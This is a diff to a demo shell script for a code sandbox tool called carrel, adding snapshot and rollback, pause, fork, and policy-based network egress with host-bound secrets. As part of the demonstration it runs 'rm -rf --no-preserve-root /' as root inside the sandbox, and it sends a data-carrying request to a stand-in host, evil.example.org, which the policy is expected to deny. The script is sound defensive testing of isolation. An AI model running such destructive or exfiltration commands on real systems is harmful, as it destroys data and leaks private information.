@@ -8,9 +8,11 @@ work=$(mktemp -d "${TMPDIR:-/tmp}/carrel-demo.XXXXXX")
 out=$PWD/bin/demo
 mkdir -p "$out"
 daemon=
+model=
 
 finish() {
 	status=$?
+	[ -z "$model" ] || kill "$model" 2>/dev/null || true
 	if [ -n "$daemon" ]; then
 		"$carrel" --data-dir "$work/data" kill --all >/dev/null 2>&1 || true
 		kill "$daemon" 2>/dev/null || true
@@ -30,7 +32,15 @@ python_before=$(sha256sum "$(readlink -f /usr/bin/python3 2>/dev/null || command
 mounts_before=$(wc -l </proc/self/mounts)
 
 step "1. a daemon of our own, on a port of its own"
-"$carrel" --data-dir "$work/data" serve --listen 127.0.0.1:0 >"$work/log" 2>&1 &
+key=sk-$RANDOM$RANDOM$RANDOM$RANDOM
+node demo/model.mjs "$work/model-port" "$key" &
+model=$!
+for _ in $(seq 100); do [ -s "$work/model-port" ] && break || sleep 0.1; done
+# The whole world outside, for this demo: one name, one address.
+cat >"$work/world.json" <<END
+{"names": {"api.example.com": ["203.0.113.9"]}, "dial": {"203.0.113.9:80": "127.0.0.1:$(cat "$work/model-port")"}}
+END
+"$carrel" --data-dir "$work/data" serve --listen 127.0.0.1:0 --wire-table "$work/world.json" >"$work/log" 2>&1 &
 daemon=$!
 for _ in $(seq 600); do
 	[ -f "$work/data/daemon.json" ] && "$carrel" --data-dir "$work/data" ls >/dev/null 2>&1 && break
@@ -58,9 +68,37 @@ export CARREL_DATA_DIR=$work/data
 "$carrel" ls
 "$carrel" exec "$id" -- bash -c 'echo "still here: $(ls | tr "\n" " ")"'
 "$carrel" cp "$id:report.txt" - | head -4
+
+step "5. undo, close the lid, fork"
+moment=$("$carrel" snapshot "$id" --label "before the mess")
+"$carrel" exec -u root "$id" -- rm -rf --no-preserve-root / 2>/dev/null || true
+"$carrel" rollback "$id" "$moment" >/dev/null
+"$carrel" exec "$id" -- bash -c 'echo "rm -rf / and back: $(ls | tr "\n" " ")"'
+"$carrel" pause "$id" >/dev/null
+[ "$(pgrep -c -f "^carrel-sentry .*$work" || true)" = 0 ] || { echo "demo: a paused sandbox has a process" >&2; exit 1; }
+echo "paused: no process, no memory"
+forks=$("$carrel" fork "$id" -n 3)
+for f in $forks; do "$carrel" exec "$f" -- bash -c 'echo "fork $(hostname) has $(ls | wc -l) files"'; done
+"$carrel" timeline "$id"
+"$carrel" kill "$id" $forks
+
+step "6. a way out by policy, and a key that it never holds"
+printf %s "$key" | "$carrel" secret set model-key --host api.example.com >/dev/null
+id=$("$carrel" create --policy demo/policy.yaml)
+ask='import os, sys, urllib.request as u
+print(u.urlopen(u.Request(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["MODEL_KEY"]})).read().decode(), end="")'
+"$carrel" exec "$id" -- python3 -c "$ask" http://api.example.com/ | tee "$work/answer"
+grep -q "the model answers" "$work/answer" || exit 1
+"$carrel" exec "$id" -- python3 -c "$ask" 'http://evil.example.org/?q=my-data' >"$work/answer" 2>&1 || true
+grep '^carrel: denied' "$work/answer"
+if "$carrel" exec -u root "$id" -- grep -rqs "$key" /run /home /etc /tmp /proc/self/environ; then
+	echo "demo: the key is in the sandbox" >&2
+	exit 1
+fi
+"$carrel" audit "$id"
 "$carrel" kill "$id"
 
-step "5. the host stayed clean"
+step "7. the host stayed clean"
 python_after=$(sha256sum "$(readlink -f /usr/bin/python3 2>/dev/null || command -v python3)")
 [ "$python_before" = "$python_after" ] || exit 1
 echo "this machine's python3 is untouched"
